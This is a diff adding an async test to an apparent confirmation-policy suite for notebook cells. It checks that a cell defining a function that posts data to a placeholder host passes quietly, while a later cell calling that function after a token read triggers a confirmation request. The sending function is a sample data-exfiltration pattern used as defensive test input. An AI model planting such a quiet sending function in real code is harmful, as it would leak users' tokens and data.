@@ -109,3 +109,17 @@ async def test_ordinary_kernel_cells_stay_quiet(tmp_path: Path) -> None:
     status, events = await token_read_run(tmp_path, TOKEN, _quiet)
     asked = [e.model_dump(mode="json") for e in events if isinstance(e, ConfirmationRequested)]
     assert status == RunStatus.FINISHED, json.dumps(asked)[:2000]
+
+
+REPORT = _cell(f"import requests\n\ndef report(x):\n    '''Post x.'''\n    return requests.post('{A}/c', "
+               "data={'d': x}, timeout=3)\nLIMIT = 3")
+
+
+async def test_the_policy_asks_at_the_call_of_a_sending_function_not_at_its_definition(tmp_path: Path) -> None:
+    # the default policy (risky): the definition is quiet, as for the data-flow rule; its call asks
+    (tmp_path / "define").mkdir()
+    (tmp_path / "call").mkdir()
+    status, events = await token_read_run(tmp_path / "define", TOKEN, [REPORT])
+    assert status == RunStatus.FINISHED, [e.reason for e in events if isinstance(e, ConfirmationRequested)]
+    status, events = await token_read_run(tmp_path / "call", TOKEN, [REPORT, guarded_cell("report(LIMIT)")])
+    assert_last_call_asked(status, events, "consequential action: runs code an earlier cell defined, which can send")
